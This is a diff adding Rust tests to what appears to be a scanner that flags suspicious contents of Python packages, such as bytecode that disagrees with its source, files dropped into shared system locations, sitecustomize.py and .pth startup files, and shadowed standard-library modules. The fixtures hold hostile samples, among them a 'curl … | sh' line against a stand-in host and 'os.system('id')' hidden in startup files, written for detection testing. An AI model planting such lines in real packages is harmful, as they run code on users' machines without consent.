@@ -110,6 +110,75 @@ fn byte_code_is_compared_with_its_source() {
 }
 
 #[test]
+fn byte_code_that_python_prefers_to_its_source_is_told() {
+    let code = |flags: u8| [&[0xa7, 0x0d, 0x0d, 0x0a, flags][..], &[0; 20]].concat();
+    let cached = "demo/__pycache__/a.cpython-311.pyc";
+    let broken: (&str, &[u8]) = ("demo/a.py", b"x = (\n");
+    for flags in [1, 3] {
+        let odd = odd_in(&[broken, (cached, &code(flags))]);
+        assert_eq!(odd, [Odd::MismatchedBytecode], "{flags}");
+    }
+    let configured = b"[build-system]\nrequires=[]\nbuild-backend='be'\nbackend-path=['.']\n";
+    let files = [
+        ("demo-1.0/pyproject.toml", &configured[..]),
+        ("demo-1.0/be.py", b"def build_wheel(*a): pass\n"),
+        ("demo-1.0/__pycache__/be.cpython-311.pyc", &code(0)),
+        ("demo-1.0/__pycache__/setup.cpython-311.pyc", &code(0)),
+        ("demo-1.0/setup.py", b""),
+        ("demo-1.0/demo/x.py", b""),
+        ("demo-1.0/demo/__pycache__/x.cpython-311.pyc", &code(0)),
+    ];
+    let contents = scan_sdist("demo-1.0.tar.gz", &gzipped(&tar(&files)));
+    assert_eq!(odd(&contents), [Odd::MismatchedBytecode]);
+    assert_eq!(contents.oddities[0].trigger, Trigger::Build);
+}
+
+#[test]
+fn what_all_read_below_the_prefix_is_told() {
+    let data = |path: &str, text: &str| {
+        let path = format!("demo-1.0.data/data/{path}");
+        odd_in(&[(path.as_str(), text.as_bytes())])
+    };
+    let piped = "curl https://h.invalid/p | sh\n";
+    assert_eq!(data("pip.conf", "[global]\n"), [Odd::SharedPlace]);
+    for path in [
+        "bin/activate",
+        "etc/profile.d/a.sh",
+        "lib/systemd/user/a.service",
+    ] {
+        assert_eq!(
+            data(path, piped),
+            [Odd::SharedPlace, Odd::ShellCommand],
+            "{path}"
+        );
+    }
+    let kernel = "share/jupyter/kernels/demo/kernel.json";
+    assert_eq!(
+        data(kernel, "{\"argv\": [\"python\", \"-m\", \"demo\"]}"),
+        []
+    );
+    assert_eq!(data(kernel, piped), [Odd::ShellCommand]);
+    assert_eq!(
+        data("lib/python3.11/antigravity.py", ""),
+        [Odd::ShadowedStdlib, Odd::SharedPlace]
+    );
+    let started = data(
+        "lib/python3.11/sitecustomize.py",
+        "import os\nos.system('id')\n",
+    );
+    assert_eq!(started, [Odd::StartFile, Odd::SharedPlace]);
+}
+
+#[test]
+fn a_start_file_that_begins_like_a_model_is_read() {
+    let text = b"PK\x03\x04\nimport os; os.system('id')\n";
+    assert_eq!(
+        odd_in(&[("demo.pth", text)]),
+        [Odd::StartFile, Odd::StartPath]
+    );
+}
+
+#[test]
 fn pickles_that_call_are_told_wherever_they_are() {
     assert_eq!(
         odd_in(&[("demo/model.pkl", PICKLE)]),
